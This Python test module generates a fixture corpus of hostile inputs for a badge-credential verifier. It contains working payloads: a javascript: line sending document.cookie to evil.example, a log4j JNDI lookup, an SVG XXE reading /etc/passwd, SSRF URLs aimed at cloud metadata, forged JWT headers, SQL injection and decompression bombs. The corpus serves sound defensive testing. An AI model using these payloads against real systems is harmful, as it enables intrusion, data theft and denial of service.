"""The hostile corpus; `python -m tests.badges.hostile` writes tests/fixtures/hostile anew."""

from __future__ import annotations

import base64
import json
import struct
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from tests.badges.made import ISSUER, METHOD, credential, signed_json

FOLDER = Path(__file__).parent.parent / "fixtures" / "hostile"
_PROOF = {
    "type": "DataIntegrityProof",
    "cryptosuite": "eddsa-rdfc-2022",
    "created": "2026-05-01T10:00:00Z",
    "verificationMethod": METHOD,
    "proofPurpose": "assertionMethod",
    "proofValue": "z" + "3" * 87,
}


def corpus() -> Iterator[tuple[str, bytes]]:
    """Name and bytes of each item; all claim to come from an issuer that is pinned.

    The few named `genuine-` are what they say, and hostile in what they point at.
    """
    yield from _graphs()
    yield from _documents()
    yield from _tokens()
    yield from _images()
    yield from _texts()


def _badge(**changes: Any) -> bytes:
    return json.dumps({**credential(**changes), "proof": _PROOF}, ensure_ascii=False).encode()


def _subject(**changes: Any) -> dict[str, Any]:
    subject: dict[str, Any] = json.loads(json.dumps(credential()["credentialSubject"]))
    subject["achievement"].update(changes)
    return subject


def _graphs() -> Iterator[tuple[str, bytes]]:
    for size in (6, 9, 12):
        nodes = [
            {
                "id": f"_:b{here}",
                "type": ["Related"],
                "https://evil.example/knows": [
                    {"@id": f"_:b{there}"} for there in range(size) if there != here
                ],
            }
            for here in range(size)
        ]
        yield f"poison-clique-{size}.json", _badge(credentialSubject=_subject(related=nodes))
    rings = [
        {
            "type": ["Profile"],
            "parentOrg": {"type": ["Profile"], "parentOrg": {"type": ["Profile"]}},
        }
    ] * 40
    yield "poison-twins.json", _badge(credentialSubject=_subject(creator=rings))
    blank = [{"type": ["Alignment"], "targetName": "x", "targetUrl": "https://x.example"}] * 400
    yield "poison-same-blank-nodes.json", _badge(credentialSubject=_subject(alignment=blank))
    yield "types-many.json", _badge(type=["VerifiableCredential", "OpenBadgeCredential"] * 200)
    yield "contexts-many.json", _badge(**{"@context": credential()["@context"] * 300})


def _documents() -> Iterator[tuple[str, bytes]]:
    deep: Any = {}
    for _ in range(20):
        deep = {"deeper": deep}
    yield "nested-just-allowed.json", _badge(evidence=[deep])
    yield "nested-arrays.json", b'{"type":"Assertion","x":' + b"[" * 50_000
    yield "nested-objects.json", b'{"type":"Assertion","a":' * 5_000
    yield "crowded.json", b'{"type":"Assertion","x":[' + b"0," * 60_000 + b"0]}"
    yield "long-number.json", b'{"type":"Assertion","x":' + b"9" * 100_000 + b"}"
    yield "quotes-never-closed.json", b'{"type":"Assertion","x":"' + b'\\"' * 60_000
    yield "twice.json", plain_twice()
    yield "prototype.json", _badge(__proto__={"verdict": "genuine"}, constructor="x")
    yield "control-keys.json", _badge(**{"na\u202eme": "x", "\u0000id": "y"})
    yield (
        "homograph-issuer.json",
        _badge(issuer={"id": ISSUER.replace("i", "\u0456", 1), "type": ["Profile"]}),
    )
    yield "lone-surrogate.json", _badge().replace(b"Robotikos", b"\\ud800")
    yield "not-a-number.json", _badge().replace(b'"2026-05-01T10:00:00Z"', b"NaN", 1)
    yield (
        "remote-context.json",
        _badge(**{"@context": [*credential()["@context"], "https://evil.example/context.json"]}),
    )
    yield (
        "file-context.json",
        _badge(**{"@context": [*credential()["@context"], "file:///etc/passwd"]}),
    )
    yield (
        "genuine-with-status-far-away.json",
        signed_json(
            credential(
                credentialStatus={
                    "id": "http://169.254.169.254/#1",
                    "type": "BitstringStatusListEntry",
                    "statusPurpose": "revocation",
                    "statusListIndex": "1",
                    "statusListCredential": "http://169.254.169.254/latest/meta-data",
                }
            ),
        ).encode(),
    )
    yield "did-web-inside.json", _badge(issuer="did:web:localhost%3A8080")
    yield (
        "year-ten-thousand.json",
        signed_json(credential(validUntil="9999-12-31T23:59:59-23:59")).encode(),
    )
    yield "year-one.json", signed_json(credential(validFrom="0001-01-01T00:00:00+23:59")).encode()
    yield "last-second.json", signed_json(credential(validFrom="9999-12-31T23:59:59Z")).encode()


def plain_twice() -> bytes:
    text = _badge().decode()
    return text.replace('"validFrom"', '"validFrom": "2000-01-01T00:00:00Z", "validFrom"').encode()


def _part(value: object) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()


def _tokens() -> Iterator[tuple[str, bytes]]:
    body = _part(credential())
    for name, header in (
        ("none", {"alg": "none"}),
        ("key-inside", {"alg": "EdDSA", "jwk": {"kty": "OKP", "crv": "Ed25519", "x": "AA"}}),
        ("key-elsewhere", {"alg": "RS256", "jku": "http://169.254.169.254/jwks"}),
        ("certificate-elsewhere", {"alg": "RS256", "x5u": "https://evil.example/chain.pem"}),
        ("unpacks", {"alg": "EdDSA", "zip": "DEF"}),
        ("shared-secret", {"alg": "HS256", "kid": METHOD}),
        ("path-as-key", {"alg": "EdDSA", "kid": "../../../etc/passwd"}),
        ("query-as-key", {"alg": "EdDSA", "kid": "x' OR 1=1 --"}),
    ):
        yield f"token-{name}.jwt", f"{_part(header)}.{body}.c2ln".encode()
    yield "token-huge.jwt", f"{_part({'alg': 'EdDSA'})}.{'A' * 150_000}.c2ln".encode()
    yield "token-dots.jwt", b"." * 20_000
    yield "pass-garbage.txt", b"COLP1:" + b"ABC" * 120
    nested = b"\x84" * 300 + b"\x00" * 4
    yield "pass-nested.txt", b"COLP1:" + _base45(nested)
    yield "pass-endless.txt", b"COLP1:" + _base45(b"\x9f" * 60)
    yield "pass-claims-size.txt", b"COLP1:" + _base45(b"\x84\x5b" + b"\xff" * 60)
    yield "badge-bignum.txt", b"COLB1:" + _base45(b"\xc2\x58\x80" + b"\xff" * 128)


def _base45(data: bytes) -> bytes:
    import base45

    encoded: bytes = base45.b45encode(data)
    return encoded


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _png(*chunks: bytes, width: int = 1, height: int = 1) -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + _chunk(b"IEND", b"")


def _text(body: bytes, *, packed: bool) -> bytes:
    return _chunk(b"iTXt", b"openbadgecredential\0" + bytes([packed, 0]) + b"\0\0" + body)


def _images() -> Iterator[tuple[str, bytes]]:
    bomb = zlib.compress(b" " * 40_000_000, 9)
    yield "bomb-text.png", _png(_text(bomb, packed=True))
    yield "bomb-pixels.png", _png(_chunk(b"IDAT", bomb), width=60_000, height=60_000)
    yield "bomb-many-parts.png", _png(*[_chunk(b"tEXt", b"a\0b")] * 20_000)
    yield "cut-short.png", _png(_text(b"{}", packed=False))[:-20]
    yield "length-lies.png", b"\x89PNG\r\n\x1a\n" + b"\xff\xff\xff\xff" + b"iTXt" + b"x" * 100
    yield "baked-in-baked.png", _png(_text(_png(_text(b"{}", packed=False)), packed=False))
    yield "baked-poison.png", _png(_text(dict(_graphs())["poison-clique-9.json"], packed=False))
    yield "unpacks-to-nothing.png", _png(_text(b"\x78\x9c garbage", packed=True))
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    yield "laughs.svg", f"<!DOCTYPE svg [{laughs}]><svg>&l9;</svg>".encode()
    yield (
        "outside-entity.svg",
        (b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'),
    )
    yield "nested.svg", b"<svg>" * 20_000
    yield (
        "attributes.svg",
        ("<svg " + " ".join(f'a{n}="{n}"' for n in range(8_000)) + "/>").encode(),
    )


def _texts() -> Iterator[tuple[str, bytes]]:
    yield "homograph-host.txt", "https://v\u0456lnius.cityoflearning.eu/claim?code=5f8ica".encode()
    yield "wide-host.txt", "https://\uff56ilnius.cityoflearning.eu/claim?code=5f8ica".encode()
    yield "user-part.txt", b"https://vilnius.cityoflearning.eu@evil.example/claim?code=5f8ica"
    yield "bidi.txt", "https://vilnius.cityoflearning.eu/\u202egnp.exe/badges/1".encode()
    yield "control-keys.txt", b"\x1b[2J\x02\x03\x12cmd.exe\r"
    yield "javascript.txt", b"javascript:fetch('https://evil.example/'+document.cookie)"
    yield "file.txt", b"file:///etc/passwd"
    yield "overlong.txt", b"\xc0\xaf\xe0\x80\xaf" * 40
    yield "oversized.txt", b"9" * 300_000
    yield "sql.txt", b"'; DROP TABLE checkins; --"
    yield "format.txt", b"%s%n{0.__class__}${jndi:ldap://evil.example/a}"


def main() -> None:
    FOLDER.mkdir(parents=True, exist_ok=True)
    for path in FOLDER.glob("*.*"):
        if path.suffix != ".md":
            path.unlink()
    for name, data in corpus():
        (FOLDER / name).write_bytes(data)


if __name__ == "__main__":
    main()
